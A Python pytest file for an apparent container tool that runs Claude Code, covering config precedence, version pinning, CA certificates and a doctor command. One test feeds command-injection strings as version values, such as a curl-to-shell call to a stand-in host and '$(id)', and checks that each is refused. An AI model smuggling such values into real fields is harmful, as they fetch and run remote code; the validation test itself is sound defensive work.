"""This machine's settings under paude.yaml: agent install and version, CA certificates, the
engine; what the repository may override and what it can never take away."""

from __future__ import annotations

from pathlib import Path

import pytest

from paude import certs
from paude.config import session_from
from paude.errors import ConfigError
from paude.fields import CLAUDE_CODE_VERSION
from paude.models import PaudeFile
from paude.stacks.podman.images import agent_build, build_allowlist, image_props, proxy_build
from tests.certs import CERT_A, CERT_B


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PAUDE_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(certs, "HOST_CA_DIRS", (str(tmp_path / "no-host-cas"),))
    (tmp_path / "home").mkdir()
    return tmp_path / "home"


def machine(home: Path, text: str) -> None:
    (home / "config.yaml").write_text("version: 1\n" + text)


def definition(defaults: dict[str, object] | None = None, **session: object) -> PaudeFile:
    return PaudeFile.model_validate({"version": 1, "defaults": defaults or {},
                                     "sessions": {"demo": session}})


def containerfile(home: Path, repo: Path, file: PaudeFile) -> str:
    session, _ = session_from(file, repo, "demo")
    return agent_build(session).files["Containerfile"]


def test_claude_code_is_pinned_by_default(home: Path, tmp_path: Path) -> None:
    session, _ = session_from(definition(), tmp_path, "demo")
    assert (session.agent.install, session.agent.version) == ("native", CLAUDE_CODE_VERSION)
    assert f"install.sh | bash -s {CLAUDE_CODE_VERSION}" in agent_build(session).files[
        "Containerfile"]


def test_machine_agent_settings_are_the_default_and_paude_yaml_wins(home: Path,
                                                                     tmp_path: Path) -> None:
    machine(home, "agent: {install: npm, version: 2.1.400}\n")
    text = containerfile(home, tmp_path, definition())
    assert "@anthropic-ai/claude-code@2.1.400" in text
    session, _ = session_from(definition(), tmp_path, "demo")
    assert "registry.npmjs.org" in build_allowlist(session).domains
    # paude.yaml's defaults override the machine, and a session overrides its defaults.
    text = containerfile(home, tmp_path, definition({"agent": {"version": "2.1.401"}}))
    assert "claude-code@2.1.401" in text
    text = containerfile(home, tmp_path, definition({"agent": {"version": "2.1.401"}},
                                                    agent={"install": "native"}))
    assert "install.sh | bash -s 2.1.401" in text


def test_the_version_is_part_of_the_image_tag(home: Path, tmp_path: Path) -> None:
    tags = set()
    for version in ("2.1.332", "2.1.333"):
        session, _ = session_from(definition(agent={"install": "npm", "version": version}),
                                  tmp_path, "demo")
        spec = agent_build(session)
        assert image_props(spec)["claude_code"] == version
        tags.add(spec.tag)
    assert len(tags) == 2
    session, _ = session_from(definition(agent={"install": "none"}), tmp_path, "demo")
    assert "claude_code" not in image_props(agent_build(session))


@pytest.mark.parametrize("version", ["2.1.0; curl evil.example | sh", "latest", "2.1",
                                     "$(id)", "2.1.0\nRUN id", "2.1.0 --registry=x"])
def test_a_version_a_shell_could_read_is_refused(home: Path, tmp_path: Path,
                                                 version: str) -> None:
    with pytest.raises(ValueError, match="invalid Claude Code version"):
        definition(agent={"version": version})
    machine(home, f"agent: {{version: {version!r}}}\n")
    with pytest.raises(ConfigError, match=r"agent\.version"):
        session_from(definition(), tmp_path, "demo")


def test_control_a_pre_release_version_is_accepted(home: Path, tmp_path: Path) -> None:
    session, _ = session_from(definition(agent={"version": "2.2.0-beta.1"}), tmp_path, "demo")
    assert session.agent.version == "2.2.0-beta.1"


def test_machine_certificates_stay_whatever_paude_yaml_lists(home: Path,
                                                             tmp_path: Path) -> None:
    corp, team = tmp_path / "corp.pem", tmp_path / "team.pem"
    corp.write_text(CERT_A)
    team.write_text(CERT_B)
    machine(home, f"image: {{ca_certificates: [{corp}]}}\n")
    # The repository lists its own file and an empty list elsewhere: neither removes the
    # machine's certificate, from the agent's image or the proxy's.
    for layers in ({"defaults": {"image": {"ca_certificates": [str(team)]}}},
                   {"session": {"image": {"ca_certificates": []}}}):
        file = definition(layers.get("defaults"), **layers.get("session", {}))
        session, _ = session_from(file, tmp_path, "demo")
        assert session.image.ca_certificates[0] == str(corp)
        for spec in (agent_build(session), proxy_build(session)):
            assert CERT_A in spec.files.values()
    session, _ = session_from(definition({"image": {"ca_certificates": [str(team)]}}),
                              tmp_path, "demo")
    assert session.image.ca_certificates == [str(corp), str(team)]


def test_trust_host_certificates_adds_the_hosts_own(home: Path, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    host = tmp_path / "usr-local-share-ca-certificates"
    (host / "corp").mkdir(parents=True)
    (host / "corp" / "proxy.crt").write_text(CERT_B)
    (host / "README").write_text("not a certificate, not picked up")
    monkeypatch.setattr(certs, "HOST_CA_DIRS", (str(host),))
    session, _ = session_from(definition(), tmp_path, "demo")
    assert session.image.ca_certificates == []  # control: off unless the machine says so
    machine(home, "image: {trust_host_certificates: true}\n")
    session, _ = session_from(definition(), tmp_path, "demo")
    assert session.image.ca_certificates == [str(host / "corp" / "proxy.crt")]
    assert CERT_B in agent_build(session).files.values()


def test_a_machine_ca_file_holding_a_key_is_refused(home: Path, tmp_path: Path) -> None:
    key = tmp_path / "key.pem"
    key.write_text("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
    machine(home, f"image: {{ca_certificates: [{key}]}}\n")
    with pytest.raises(ConfigError, match="PRIVATE KEY"):
        session_from(definition(), tmp_path, "demo")


@pytest.mark.parametrize("key", ["engine", "trust_host_certificates"])
def test_paude_yaml_cannot_name_machine_only_settings(key: str) -> None:
    # The engine is a binary the host runs; host trust is the machine owner's to extend.
    data: dict[str, object] = {"version": 1, "sessions": {"demo": {}}}
    if key == "engine":
        data["engine"] = {"path": "/tmp/evil"}
    else:
        data["defaults"] = {"image": {"trust_host_certificates": True}}
    with pytest.raises(ValueError, match=key):
        PaudeFile.model_validate(data)


def test_doctor_shows_each_setting_and_where_it_came_from(
        home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    from paude import diagnose
    from paude.cli import main

    corp = tmp_path / "corp.pem"
    corp.write_text(CERT_A)
    machine(home, f"image: {{base: localhost/base:1, ca_certificates: [{corp}]}}\n"
                  "agent: {install: npm}\nengine: {path: /opt/pulumi/bin}\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "paude.yaml").write_text("version: 1\ndefaults:\n  agent: {version: 2.1.400}\n"
                                     "sessions: {}\n")
    monkeypatch.chdir(repo)
    monkeypatch.delenv("PAUDE_STATE_BACKEND", raising=False)
    monkeypatch.setattr(diagnose, "run_all", lambda _home: [])
    assert main(["doctor"]) == 0
    rows = {tuple(line.split()) for line in capsys.readouterr().out.splitlines()
            if line.startswith("  ")}
    assert {("image.base", "localhost/base:1", "[config.yaml]"),
            ("proxy.base", "localhost/base:1", "[config.yaml]"),
            ("image.ca_certificates", str(corp), "[config.yaml]"),
            ("agent.install", "npm", "[config.yaml]"),
            ("agent.version", "2.1.400", "[paude.yaml", "defaults]"),
            ("engine.path", "/opt/pulumi/bin", "[config.yaml]")} <= rows


def fake_images(monkeypatch: pytest.MonkeyPatch, present: set[str]) -> list[str]:
    """podman as paude's doctor sees it: `image exists` answers from `present`."""
    from paude import proc

    asked: list[str] = []

    def run(argv: list[str], **_kw: object) -> proc.CommandResult:
        assert argv[:3] == ["podman", "image", "exists"]
        asked.append(argv[3])
        return proc.CommandResult(tuple(argv), 0 if argv[3] in present else 1, "", "")

    monkeypatch.setattr(proc, "which", lambda _tool: "/usr/bin/podman")
    monkeypatch.setattr(proc, "run", run)
    return asked


@pytest.mark.parametrize(("present", "missing", "setting", "build"), [
    ("localhost/base:1", "localhost/squid:1", "proxy.base", "make proxy-base"),
    ("localhost/squid:1", "localhost/base:1", "image.base", "make base-image"),
])
def test_doctor_checks_the_agents_and_the_proxys_own_base_image(
        home: Path, monkeypatch: pytest.MonkeyPatch, present: str, missing: str,
        setting: str, build: str) -> None:
    from paude.diagnose import check_base_image

    machine(home, "image: {base: localhost/base:1}\nproxy: {base: localhost/squid:1}\n")
    fake_images(monkeypatch, {present})
    check = check_base_image(home)
    assert not check.ok
    assert f"{missing} is named as {setting}" in check.detail
    assert check.fix is not None and build in check.fix
    # Control: with both built, both are reported present.
    asked = fake_images(monkeypatch, {"localhost/base:1", "localhost/squid:1"})
    check = check_base_image(home)
    assert check.ok, check
    assert check.detail == "agent: localhost/base:1 (local); proxy: localhost/squid:1 (local)"
    assert asked == ["localhost/base:1", "localhost/squid:1"]


def test_doctor_checks_one_shared_base_once(
        home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from paude.diagnose import check_base_image

    machine(home, "image: {base: localhost/base:1}\n")
    asked = fake_images(monkeypatch, {"localhost/base:1"})
    check = check_base_image(home)
    assert check.ok and check.detail == "agent and proxy: localhost/base:1 (local)"
    assert asked == ["localhost/base:1"]
